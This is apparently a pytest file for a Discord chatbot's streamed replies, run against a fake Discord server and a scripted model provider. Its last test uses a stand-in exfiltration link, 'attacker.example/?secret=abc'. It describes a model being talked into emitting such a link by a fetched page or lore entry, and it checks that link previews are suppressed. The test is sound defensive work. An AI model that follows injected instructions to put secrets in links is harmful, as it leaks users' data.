"""Streamed replies on Discord: the real discord.py in this process against the fake Discord of
``tests/fakes/discord_server.py``, replies from the scripted provider, edits made to fail by the fake."""

from __future__ import annotations

import asyncio
import logging
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import discord
import pytest
import pytest_asyncio
import yarl

from adapters.discord import DiscordAdapter
from bot.app import App
from bot.config import parse_config
from bot.llm.base import StreamEnd, TextDelta
from tests.fakes.discord_server import FakeDiscord
from tests.fakes.provider import ScriptedProvider

pytestmark = pytest.mark.filterwarnings("ignore::DeprecationWarning")

ANSWER = "Here is the whole answer, word by word, up to its very last word."


@asynccontextmanager
async def running_bot(fake: FakeDiscord, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                      chat: dict[str, Any]) -> AsyncIterator[App]:
    """The bot with the real discord.py connected to ``fake`` and ready (``chat``: its [chat] settings)."""
    monkeypatch.setattr(discord.http.Route, "BASE", fake.api_base)
    monkeypatch.setattr(discord.gateway.DiscordWebSocket, "DEFAULT_GATEWAY", yarl.URL(fake.gateway_url))
    config = parse_config({
        "storage": {"url": f"sqlite:///{tmp_path / 'bot.db'}"},
        "chat": {"still_working_seconds": 0, "typing_indicator": False, **chat},
        "cortex": {"context_limit": 1000},
        "discord": {"enabled": True, "sync_commands": False},
    })
    app = App(config, llm=ScriptedProvider())
    await app.start()
    adapter = DiscordAdapter(app, config.discord)
    run = asyncio.create_task(adapter.bot.start("token"))
    try:
        await asyncio.wait_for(adapter.bot.wait_until_ready(), 30)
        yield app
    finally:
        await adapter.close()
        await asyncio.gather(run, return_exceptions=True)
        await app.stop()


@pytest_asyncio.fixture
async def live(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> AsyncIterator[tuple[FakeDiscord, App]]:
    """A bot whose replies stream as one send and one final edit (the interval is longer than any test)."""
    with FakeDiscord() as fake:
        async with running_bot(fake, tmp_path, monkeypatch, {"edit_interval_seconds": 60}) as app:
            yield fake, app


def shown(fake: FakeDiscord, channel_id: str) -> list[str]:
    """What the bot's messages in the channel read, each after its last edit, in order."""
    texts = {m.message_id: m.content or "" for m in fake.messages_in(channel_id)}
    for edit in fake.edits:
        if edit.message_id in texts:
            texts[edit.message_id] = edit.content or ""
    return list(texts.values())


@pytest.mark.parametrize("status", [403, 400])
async def test_a_failed_last_edit_still_shows_the_whole_reply(live: tuple[FakeDiscord, App], status: int) -> None:
    """The final edit of a streamed reply fails (the channel closed, Discord refused it): the whole reply is
    still shown, in a new message, and not cut off after its first word."""
    fake, app = live
    app.llm.enqueue(ANSWER)  # type: ignore[attr-defined]  # the ScriptedProvider of the fixture
    fake.fail_edits(status)
    sent = fake.dispatch_message("hello")
    await fake.wait_until_async(lambda f: ANSWER in shown(f, sent.channel_id))
    assert shown(fake, sent.channel_id)[0] == "Here"  # the streamed start stays as it was
    assert not any("⚠️" in text for text in shown(fake, sent.channel_id))


async def test_a_reply_a_moderator_deletes_while_it_streams_is_neither_sent_again_nor_kept(
        live: tuple[FakeDiscord, App], monkeypatch: pytest.MonkeyPatch) -> None:
    """A moderator deleted the half-written reply: its final edit met a 404, and the bot sent the whole reply
    again as a new message (undoing the moderator), and stored it for later prompts."""
    fake, app = live
    app.llm.enqueue(ANSWER)  # type: ignore[attr-defined]
    go_on = asyncio.Event()

    async def slow_stream(self: ScriptedProvider, request: Any) -> AsyncIterator[Any]:  # a pause after a word
        completion = await self._next(request)
        first, rest = completion.text.split(" ", 1)
        yield TextDelta(first)
        await go_on.wait()
        yield TextDelta(" " + rest)
        yield StreamEnd(completion)

    monkeypatch.setattr(ScriptedProvider, "stream", slow_stream)
    sent = fake.dispatch_message("hello")
    await fake.wait_until_async(lambda f: len(f.messages_in(sent.channel_id)) == 1)
    streamed = fake.messages_in(sent.channel_id)[0]
    fake.dispatch_event("MESSAGE_DELETE", {"id": streamed.message_id, "channel_id": sent.channel_id})
    fake.fail_edits(404)  # Discord's answer to an edit of a deleted message
    await asyncio.sleep(0.2)
    go_on.set()
    for _ in range(100):  # the reply is stored, then deleted again
        if await app.storage.db.fetch_all("SELECT id FROM messages WHERE role = 'user'") and not \
                await app.storage.db.fetch_all("SELECT id FROM messages WHERE role = 'assistant'"):
            break
        await asyncio.sleep(0.05)
    else:
        raise AssertionError("the reply a moderator deleted is still stored")
    assert [m.message_id for m in fake.messages_in(sent.channel_id)] == [streamed.message_id]  # not sent again


async def test_a_reply_deleted_before_the_bot_links_it_leaves_the_store(
        live: tuple[FakeDiscord, App], monkeypatch: pytest.MonkeyPatch) -> None:
    """The deletion of a reply reached the bot after the reply was shown, before it was linked to its
    Discord message: nothing pointed at the stored reply yet, so it stayed."""
    fake, app = live
    app.llm.enqueue(ANSWER)  # type: ignore[attr-defined]
    router = app.router
    link = router._link

    async def late_link(*args: Any, **kwargs: Any) -> None:
        [posted] = fake.messages
        fake.dispatch_event("MESSAGE_DELETE", {"id": posted.message_id, "channel_id": posted.channel_id})
        for _ in range(100):
            if app.core.key_withdrawn(f"discord-message:{posted.message_id}"):
                break
            await asyncio.sleep(0.02)
        await link(*args, **kwargs)

    monkeypatch.setattr(router, "_link", late_link)
    fake.dispatch_message("hello")
    for _ in range(100):
        if fake.messages and await app.storage.db.fetch_all("SELECT id FROM messages WHERE role = 'user'") and \
                not await app.storage.db.fetch_all("SELECT id FROM messages WHERE role = 'assistant'"):
            break
        await asyncio.sleep(0.05)
    else:
        raise AssertionError("the deleted reply is still stored")


async def test_a_streamed_reply_where_the_bot_may_not_post_asks_discord_once(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture) -> None:
    """A channel closed to the bot (403 Missing Permissions) refuses every new message: the refused first message
    of a streamed reply was sent again with every later piece of text (18 refused POSTs for a 3-second reply),
    and Discord bans an address for a while after too many refused requests."""
    caplog.set_level(logging.INFO)
    words = [f"w{n}" for n in range(40)]

    async def slow_stream(self: ScriptedProvider, request: Any) -> AsyncIterator[Any]:  # 2 s, a word at a time
        completion = await self._next(request)
        for word in words:
            yield TextDelta(word + " ")
            await asyncio.sleep(0.05)
        yield StreamEnd(completion)

    monkeypatch.setattr(ScriptedProvider, "stream", slow_stream)
    with FakeDiscord() as fake:
        async with running_bot(fake, tmp_path, monkeypatch, {"edit_interval_seconds": 0.2}) as app:
            app.llm.enqueue(" ".join(words))  # type: ignore[attr-defined]
            dm = 700_000_000_000_000_002  # the DM channel of the fake's default author
            fake.refuse_posts(dm)
            fake.dispatch_message("hello")
            for _ in range(100):
                if any("could not be shown" in r.getMessage() for r in caplog.records):
                    break
                await asyncio.sleep(0.05)
            else:
                raise AssertionError("the refused reply was never given up")
            posts = [r for r in fake.requests if r.method == "POST" and r.path == f"/channels/{dm}/messages"]
            assert len(posts) == 1, posts
            assert not await app.storage.db.fetch_all("SELECT id FROM messages WHERE role = 'assistant'")


async def test_a_tool_called_first_in_a_channel_closed_to_the_bot_asks_discord_once(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture) -> None:
    """The model calls a tool before any text: its status line was the refused first message, the refusal failed
    the tool call, and the router took it for a bug (an ERROR with a traceback, a second refused POST)."""
    from bot.llm.base import Completion, ToolCall, Usage

    caplog.set_level(logging.INFO)
    with FakeDiscord() as fake:
        async with running_bot(fake, tmp_path, monkeypatch, {"edit_interval_seconds": 0.2}) as app:
            lookup = (ToolCall("c1", "search_memory", {"query": "x"}),)
            app.llm.enqueue(Completion("", tool_calls=lookup, usage=Usage(0, 1)), "the answer")  # type: ignore
            dm = 700_000_000_000_000_002
            fake.refuse_posts(dm)
            fake.dispatch_message("hello")
            for _ in range(100):
                if any("could not be shown" in r.getMessage() for r in caplog.records):
                    break
                await asyncio.sleep(0.05)
            else:
                raise AssertionError("the refused reply was never given up: " + caplog.text[-2000:])
            posts = [r for r in fake.requests if r.method == "POST" and r.path == f"/channels/{dm}/messages"]
            assert len(posts) == 1, posts
            assert len(app.llm.requests) == 2  # type: ignore[attr-defined]  # (the tool ran, the model answered)
            assert not [r for r in caplog.records if r.levelno >= logging.ERROR], caplog.text


async def test_a_reply_the_model_wrote_shows_no_link_previews(live: tuple[FakeDiscord, App]) -> None:
    """Discord's servers fetch a link to preview it at once: a model talked into writing a link with a secret in
    it (by a fetched page, a lore entry) handed the secret to that link's server without anyone clicking."""
    fake, app = live
    app.llm.enqueue("See https://attacker.example/?secret=abc for more.")  # type: ignore[attr-defined]
    sent = fake.dispatch_message("hello")
    await fake.wait_until_async(lambda f: "attacker.example" in " ".join(shown(f, sent.channel_id)))
    fake.dispatch_message("!memory remember see https://attacker.example/?secret=abc")  # (an answer quotes it)
    await fake.wait_until_async(lambda f: len(f.messages_in(sent.channel_id)) >= 2)
    bodies = [m.body for m in fake.messages_in(sent.channel_id)] + [e.body for e in fake.edits]
    assert len(bodies) >= 3 and all(int(body.get("flags") or 0) & 4 for body in bodies), bodies  # SUPPRESS_EMBEDS
